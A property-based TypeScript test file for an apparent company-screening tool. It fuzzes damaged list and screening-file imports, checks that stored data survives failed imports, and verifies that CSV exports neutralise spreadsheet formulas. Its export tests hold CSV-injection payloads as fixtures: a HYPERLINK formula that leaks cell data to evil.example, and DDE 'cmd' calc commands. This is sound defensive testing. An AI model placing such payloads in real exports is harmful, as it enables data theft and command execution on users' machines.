// Bad files, fuzzed. The example-based tests (import-list, screening-files, audit,
// user-data) pin each known failure with its exact message; these generate thousands of
// broken variants of good files and check the rules that must hold for all of them:
//
//   - imported lists: a damaged CSV or JSON file (cut off anywhere, Latin-1 read as UTF-8,
//     bytes dropped or inserted, columns renamed, rows repeated, a huge cell) is refused with
//     an ImportError that has a known code and a sentence, or it parses into entries whose
//     names all stand in the file: never a crash, never an invented or garbled name;
//   - screening files (CSV, TSV, XLSX, OCDS, TED): the same, with ScreeningInputError;
//   - CSV exports: whatever the names and list data hold, no exported cell can start a
//     spreadsheet formula, and nothing but the neutralising apostrophe is added;
//   - stored data: whatever sequence of good and bad imports, dismissals and settings
//     happens, a failed import changes nothing and earlier imports, settings and dismissals
//     are all still there.
import fc from 'fast-check';
import { deleteDB } from 'idb';
import { DOMParser } from 'linkedom';
import Papa from 'papaparse';
import { beforeEach, describe, expect, it, vi } from 'vitest';
import writeXlsxFile from 'write-excel-file/universal';
import compiledJson from '../../src/generated/compiled-lists.json';
import { ImportError, MAX_CELL_CHARS, parseImportedList } from '../../src/core/import-list';
import { Matcher } from '../../src/core/matcher';
import type { CompiledData } from '../../src/core/types';
import { lookupFromCompiled } from '../../src/ui/presentation/lookup';
import { buildBulkRecord, bulkCsv, toCsv } from '../../src/ui/presentation/audit';
import {
  MAX_NAME_LENGTH,
  ScreeningInputError,
  inputsFromLines,
  loadScreeningFile,
  screenAll,
} from '../../src/formats/tables';
import { fakeBrowser, resetFakeBrowser } from './helpers/fake-browser';

vi.mock('../../src/shared/browser', async () => ({ browser: (await import('./helpers/fake-browser')).fakeBrowser }));

const ud = await import('../../src/shared/user-data');
const { loadSettings, saveSettings, withPausedSite, withListEnabled } = await import('../../src/shared/settings');

const bundled = compiledJson as unknown as CompiledData;
const RUNS = Number(process.env.SS_PROPERTY_RUNS ?? 300);
const META = { title: 'Council list', publisher: 'Stad Gent', published: '2026-03-01' };

const IMPORT_CODES = new Set([
  'unknown-format',
  'empty-file',
  'too-large',
  'not-utf8',
  'csv-quotes',
  'csv-field-count',
  'no-name-column',
  'duplicate-column',
  'empty-name',
  'bad-url',
  'huge-cell',
  'too-many-entries',
  'no-entries',
  'json-syntax',
  'json-truncated',
  'json-shape',
  'missing-title',
  'missing-publisher',
  'bad-date',
]);

const GOOD_CSV =
  [
    'name,aliases,country,criterion,rationale,source_url,date',
    'Acme Holdings Ltd.,Acme|ACME Group,Israel,b,"Builds ""homes"", roads",https://example.org/acme,2024-05',
    'Société Générale de Construction SA,SGC,France,e,Équipement; grues,https://example.org/sgc,',
    'Zeta Logistics BV,,Netherlands,,,,',
    '"Omega, Inc.",Omega,United States,c,"Line one',
    'line two",https://example.org/omega,2023',
    'בע״מ Shikun & Binui,,Israel,b,Hebrew name,,',
  ].join('\r\n') + '\r\n';

const GOOD_JSON = JSON.stringify(
  {
    id: 'ngo-export',
    title: 'NGO export',
    publisher: 'Some NGO',
    published: '2025-06',
    coverage_note: 'A sample.',
    entries: [
      {
        name: 'Acme Holdings Ltd.',
        aliases: ['Acme'],
        country: 'Israel',
        categories: ['b'],
        rationale: 'Builds.',
        evidence_url: 'https://example.org/acme',
      },
      {
        name: 'Société Générale de Construction SA',
        aliases: [],
        country: null,
        categories: [],
        rationale: '',
        evidence_url: '',
      },
      {
        name: 'Omega, Inc.',
        aliases: ['Omega'],
        country: 'US',
        categories: ['c'],
        rationale: 'Sells "drones".',
        evidence_url: '',
      },
    ],
  },
  null,
  2,
);

const latin1Bytes = (s: string) => Uint8Array.from([...s].map((c) => c.charCodeAt(0) & 0xff));
const utf8 = (s: string) => new TextEncoder().encode(s);
/** What File.text() gives for bytes that are not UTF-8. */
const asUtf8Text = (bytes: Uint8Array) => new TextDecoder('utf-8').decode(bytes);

/** Ways a file gets damaged on its way to the user. */
function corruptText(text: string) {
  const at = fc.nat(text.length);
  return fc.oneof(
    at.map((i) => text.slice(0, i)), // cut off
    fc.constant(asUtf8Text(latin1Bytes(text))), // saved as Latin-1, read as UTF-8
    fc.tuple(at, fc.nat(40)).map(([i, n]) => text.slice(0, i) + text.slice(i + n)), // bytes lost
    fc.tuple(at, fc.string({ unit: 'binary', maxLength: 8 })).map(([i, s]) => text.slice(0, i) + s + text.slice(i)), // noise
    fc
      .tuple(at, fc.constantFrom('"', ',', ';', '\n', '\r', '\t', '\u0000', '\uFEFF', '{', '}', ']', '\uFFFD'))
      .map(([i, c]) => text.slice(0, i) + c + text.slice(i)),
    at.map((i) => text.slice(0, i) + 'x'.repeat(MAX_CELL_CHARS + 1) + text.slice(i)), // a huge cell
    fc.constant(text.replace(/\bname\b/, 'naam')), // wrong columns
    fc.constant(text.replace(/\bname\b/, 'name,name')),
    fc.constant(
      text
        .split(/\r?\n/)
        .flatMap((l, i) => (i === 2 ? [l, l] : [l]))
        .join('\n'),
    ), // repeated row
    fc.constant(text.replace(/https:\/\//g, 'javascript://')),
  );
}

function checkImportOutcome(fileName: string, damaged: string): void {
  let parsed;
  try {
    parsed = parseImportedList(fileName, damaged, META);
  } catch (e) {
    // A clear refusal: a known code and a sentence, never a bare TypeError.
    expect(e).toBeInstanceOf(ImportError);
    const err = e as ImportError;
    expect(IMPORT_CODES.has(err.code), err.code).toBe(true);
    expect(err.message.length).toBeGreaterThan(15);
    expect(err.message).not.toMatch(/undefined|\[object Object\]|NaN/);
    return;
  }
  // Accepted: every name (and alias) stands in the file as it is. Nothing invented, nothing garbled.
  expect(parsed.list.entries.length).toBeGreaterThan(0);
  for (const entry of parsed.list.entries) {
    expect(entry.name.trim().length).toBeGreaterThan(0);
    expect(entry.name).not.toContain('\uFFFD');
    expect(damaged.replace(/""/g, '"').replace(/\\"/g, '"')).toContain(entry.name);
    for (const alias of entry.aliases) expect(damaged.replace(/\\"/g, '"')).toContain(alias);
  }
}

describe('imported lists, damaged (property-based)', () => {
  it('the good files parse', () => {
    expect(parseImportedList('council.csv', GOOD_CSV, META).list.entries).toHaveLength(5);
    expect(parseImportedList('ngo.json', GOOD_JSON, META).list.entries).toHaveLength(3);
  });

  it('a damaged CSV list is refused with a clear message, or every name in it stands in the file', () => {
    fc.assert(
      fc.property(corruptText(GOOD_CSV), (damaged) => checkImportOutcome('council.csv', damaged)),
      { numRuns: RUNS },
    );
  });

  it('a damaged JSON list is refused with a clear message, or every name in it stands in the file', () => {
    fc.assert(
      fc.property(corruptText(GOOD_JSON), (damaged) => checkImportOutcome('ngo.json', damaged)),
      { numRuns: RUNS },
    );
  });

  it('a Latin-1 file read as UTF-8 is refused, never imported with garbled names', () => {
    for (const [name, text] of [
      ['council.csv', GOOD_CSV],
      ['ngo.json', GOOD_JSON],
    ] as const) {
      const damaged = asUtf8Text(latin1Bytes(text));
      expect(damaged).toContain('\uFFFD');
      expect(() => parseImportedList(name, damaged, META)).toThrow(ImportError);
    }
  });
});

// ---------------------------------------------------------------- screening files

const parseXml = (xml: string): Document => new DOMParser().parseFromString(xml, 'text/xml') as unknown as Document;

async function xlsxBytes(rows: string[][]): Promise<Uint8Array> {
  const data = [{ sheet: 'Bidders', data: rows.map((r) => r.map((value) => ({ value }))) }];
  const blob = await (writeXlsxFile as unknown as (s: unknown) => { toBlob(): Promise<Blob> })(data).toBlob();
  return new Uint8Array(await blob.arrayBuffer());
}

const SCREEN_CSV =
  'Leverancier;Stad\r\nHeidelberg Materials AG;Gent\r\n"Motorola Solutions, Inc.";Leuven\r\nBakkerij Peeters;Genk\r\n';
const SCREEN_OCDS = JSON.stringify({
  uri: 'https://example.org/r',
  publishedDate: '2026-01-01T00:00:00Z',
  releases: [
    {
      ocid: 'ocds-x-1',
      id: '1',
      date: '2026-01-01T00:00:00Z',
      tag: ['award'],
      parties: [
        { id: 'p1', name: 'Heidelberg Materials AG', roles: ['supplier'] },
        { id: 'p2', name: 'Stad Gent', roles: ['buyer'] },
      ],
    },
  ],
});

async function checkScreeningOutcome(fileName: string, bytes: Uint8Array): Promise<void> {
  let loaded;
  try {
    loaded = await loadScreeningFile(fileName, bytes, parseXml);
  } catch (e) {
    expect(e, String(e)).toBeInstanceOf(ScreeningInputError);
    expect((e as Error).message.length).toBeGreaterThan(10);
    return;
  }
  const names =
    loaded.kind === 'names' ? loaded.inputs.map((i) => i.input) : loaded.sheets.flatMap((s) => s.rows.flat());
  for (const n of names) {
    expect(typeof n).toBe('string');
    if (loaded.kind === 'names') expect(n.length).toBeLessThanOrEqual(MAX_NAME_LENGTH);
  }
}

function corruptBytes(bytes: Uint8Array) {
  const at = fc.nat(bytes.length);
  return fc.oneof(
    at.map((i) => bytes.slice(0, i)),
    fc.tuple(at, fc.integer({ min: 0, max: 255 })).map(([i, b]) => {
      const copy = bytes.slice();
      if (i < copy.length) copy[i] ^= b || 1;
      return copy;
    }),
    fc.tuple(at, fc.uint8Array({ maxLength: 16 })).map(([i, noise]) => {
      const out = new Uint8Array(bytes.length + noise.length);
      out.set(bytes.slice(0, i));
      out.set(noise, i);
      out.set(bytes.slice(i), i + noise.length);
      return out;
    }),
  );
}

describe('screening files, damaged (property-based)', () => {
  it('a damaged CSV, TSV or OCDS file is read completely or refused with a ScreeningInputError', async () => {
    const files: [string, Uint8Array][] = [
      ['bidders.csv', utf8(SCREEN_CSV)],
      ['bidders.tsv', utf8(SCREEN_CSV.replace(/;/g, '\t'))],
      ['bidders.csv', latin1Bytes(SCREEN_CSV.replace('Peeters', 'Pêters'))],
      ['award.json', utf8(SCREEN_OCDS)],
    ];
    for (const [name, bytes] of files) {
      await fc.assert(
        fc.asyncProperty(corruptBytes(bytes), (damaged) => checkScreeningOutcome(name, damaged)),
        { numRuns: Math.ceil(RUNS / 3) },
      );
    }
  });

  it('a damaged XLSX workbook is read or refused with a ScreeningInputError, never another error', async () => {
    const good = await xlsxBytes([['Leverancier'], ['Heidelberg Materials AG'], ['Bakkerij Peeters']]);
    await checkScreeningOutcome('bidders.xlsx', good);
    await fc.assert(
      fc.asyncProperty(corruptBytes(good), (damaged) => checkScreeningOutcome('bidders.xlsx', damaged)),
      { numRuns: Math.ceil(RUNS / 3) },
    );
  });
});

// ---------------------------------------------------------------- CSV exports

const FORMULA_START = /^[=+\-@\t\r\n]|^[ \u00a0]+[=+\-@]/;
const hostileCell = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 30 }),
  fc
    .tuple(
      fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ' =', '\u00a0+', '  @', '"=', "'="),
      fc.string({ maxLength: 20 }),
    )
    .map(([a, b]) => a + b),
  fc.constantFrom(
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd|" /C calc"!A0',
    '-2+3',
    '+31 20 555',
  ),
);

function parseCsvBack(text: string): string[][] {
  const r = Papa.parse<string[]>(text.replace(/^\uFEFF/, '').replace(/\r\n$/, ''), { delimiter: ',', newline: '\r\n' });
  expect(r.errors).toEqual([]);
  return r.data;
}

describe('CSV export never starts a formula (property-based)', () => {
  it('any cell: read back, it cannot start a formula, and it is the text itself or the text after an apostrophe', () => {
    fc.assert(
      fc.property(fc.array(hostileCell, { minLength: 1, maxLength: 5 }), (cells) => {
        // A last plain column, so a row of one empty cell is still a row when read back.
        const back = parseCsvBack(toCsv([[...cells, 'end']]));
        expect(back).toHaveLength(1);
        expect(back[0]).toHaveLength(cells.length + 1);
        back[0].slice(0, -1).forEach((cell, i) => {
          expect(FORMULA_START.test(cell), JSON.stringify(cell)).toBe(false);
          expect(cell === cells[i] || cell === `'${cells[i]}`).toBe(true);
        });
      }),
      { numRuns: RUNS },
    );
  });

  it('a bulk screening export of hostile names and hostile list data is safe in every cell', () => {
    // A list whose entries are formulas, screened with names that are formulas.
    const listCsv =
      'name,aliases,criterion,rationale,source_url\n' +
      '"=HYPERLINK(""http://evil.example/""&A1) Holdings Ltd",,"=1+1","@SUM(A1:A9) builds; -2+3",https://example.org/x\n' +
      '"+Plus Trading BV",,"-c","=cmd|\' /C calc\'!A0",\n';
    const parsed = parseImportedList('hostile.csv', listCsv, { ...META, title: '=Council+List', publisher: '@Gent' });
    const data = ud.mergeCompiledData(
      bundled,
      ud.compileImportedLists([{ parsed: parsed.list, sha256: 'a'.repeat(64) }]),
    );
    fc.assert(
      fc.property(
        fc.array(
          hostileCell.filter((s) => s.trim() !== '' && !/[\r\n]/.test(s)),
          { maxLength: 6 },
        ),
        (extra) => {
          const names = [
            '=HYPERLINK("http://evil.example/"&A1) Holdings Ltd',
            '+Plus Trading BV',
            'Heidelberg Materials AG',
            ...extra,
          ];
          const rows = screenAll(Matcher.fromData(data), inputsFromLines(names.join('\n')));
          const record = buildBulkRecord(
            {
              lists: data.lists,
              enabledLists: {},
              dismissals: [],
              lookup: lookupFromCompiled(data),
              generator: { name: 'Settlement Screen', version: '0.0.0' },
              now: () => new Date('2026-11-23T10:00:00Z'),
            },
            rows,
            {
              fileName: '=evil.csv',
              sha256: 'f'.repeat(64),
              bytes: 1,
              format: 'csv',
              sheet: null,
              column: '@A',
              header: true,
            },
          );
          const csv = parseCsvBack(bulkCsv(record));
          expect(csv.length).toBeGreaterThan(3);
          for (const row of csv)
            for (const cell of row) expect(FORMULA_START.test(cell), JSON.stringify(cell)).toBe(false);
          // The hostile list data did arrive (as text): this export is not vacuously safe.
          expect(csv.flat().some((c) => c.startsWith("'=HYPERLINK"))).toBe(true);
        },
      ),
      { numRuns: 25 },
    );
  });
});

// ---------------------------------------------------------------- no data loss

type Action =
  | { kind: 'import-good'; n: number }
  | { kind: 'import-damaged'; text: string }
  | { kind: 'import-conflict' }
  | { kind: 'dismiss'; n: number }
  | { kind: 'setting'; n: number };

const goodList = (n: number) => `name,source_url\nCompany ${n} Holdings Ltd,https://example.org/${n}\n`;
const action: fc.Arbitrary<Action> = fc.oneof(
  fc.nat(4).map((n) => ({ kind: 'import-good' as const, n })),
  corruptText(goodList(9)).map((text) => ({ kind: 'import-damaged' as const, text })),
  fc.constant({ kind: 'import-conflict' as const }),
  fc.nat(4).map((n) => ({ kind: 'dismiss' as const, n })),
  fc.nat(4).map((n) => ({ kind: 'setting' as const, n })),
);

async function snapshot() {
  return {
    lists: (await ud.listImportedLists()).map((l) => [l.id, l.meta.sha256, l.parsed.entries.map((e) => e.name)]),
    dismissals: (await ud.listDismissals()).map((d) => d.id).sort(),
    settings: await loadSettings(),
    compiled: await ud.getImportedCompiled(),
  };
}

describe('no data loss (fake-indexeddb, property-based)', () => {
  beforeEach(async () => {
    await ud.closeUserDb();
    await deleteDB(ud.DB_NAME);
    resetFakeBrowser();
  });

  it('a failed import never changes anything, and everything that succeeded is still there at the end', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(action, { minLength: 1, maxLength: 8 }), async (actions) => {
        await ud.closeUserDb();
        await deleteDB(ud.DB_NAME);
        fakeBrowser.storage.local.data.clear();
        const model = { lists: new Set<string>(), dismissals: new Set<string>(), paused: new Set<string>() };
        for (const a of actions) {
          const before = await snapshot();
          if (a.kind === 'import-good') {
            const meta = { ...META, title: `List ${a.n}` };
            const id = `user:list-${a.n}`;
            const result = await ud
              .importList(parseImportedList('l.csv', goodList(a.n), meta), { name: 'l.csv', text: goodList(a.n) })
              .then(
                () => 'ok',
                (e: Error) => e,
              );
            if (model.lists.has(id)) {
              expect(result).toBeInstanceOf(ud.UserDataError);
              expect(await snapshot()).toEqual(before);
            } else {
              expect(result).toBe('ok');
              model.lists.add(id);
            }
          } else if (a.kind === 'import-damaged') {
            let parsed = null;
            try {
              parsed = parseImportedList('d.csv', a.text, { ...META, title: 'Damaged' });
            } catch (e) {
              expect(e).toBeInstanceOf(ImportError);
            }
            if (parsed) {
              // Parsed despite the damage (e.g. a cut between rows): stored like any list,
              // unless its id is taken.
              const ok = await ud.importList(parsed, { name: 'd.csv', text: a.text }).then(
                () => true,
                () => false,
              );
              if (ok) model.lists.add(parsed.list.id);
              else expect(await snapshot()).toEqual(before);
            } else {
              expect(await snapshot()).toEqual(before);
            }
          } else if (a.kind === 'import-conflict') {
            const existing = [...model.lists][0];
            if (!existing) continue;
            const title = existing === 'user:damaged' ? 'Damaged' : `List ${existing.replace('user:list-', '')}`;
            const err = await ud
              .importList(parseImportedList('c.csv', 'name\nOther BV\n', { ...META, title }), {
                name: 'c.csv',
                text: 'name\nOther BV\n',
              })
              .catch((e: Error) => e);
            expect(err).toBeInstanceOf(ud.UserDataError);
            expect(await snapshot()).toEqual(before);
          } else if (a.kind === 'dismiss') {
            const d = await ud.addDismissal({ entity: `user:e${a.n}`, entityName: `E${a.n}`, scope: 'everywhere' });
            model.dismissals.add(d.id);
          } else {
            const s = await loadSettings();
            await saveSettings(withListEnabled(withPausedSite(s, `site${a.n}.example`), `list-${a.n}`, false));
            model.paused.add(`site${a.n}.example`);
          }
        }
        const end = await snapshot();
        expect(new Set(end.lists.map((l) => l[0] as string))).toEqual(model.lists);
        expect(new Set(end.dismissals)).toEqual(model.dismissals);
        expect(new Set(end.settings.pausedSites)).toEqual(model.paused);
        // The compiled data the matcher loads holds exactly the stored lists.
        expect(new Set((end.compiled?.lists ?? []).map((l) => l.id))).toEqual(model.lists);
      }),
      { numRuns: Number(process.env.SS_PROPERTY_DB_RUNS ?? 40) },
    );
  });
});
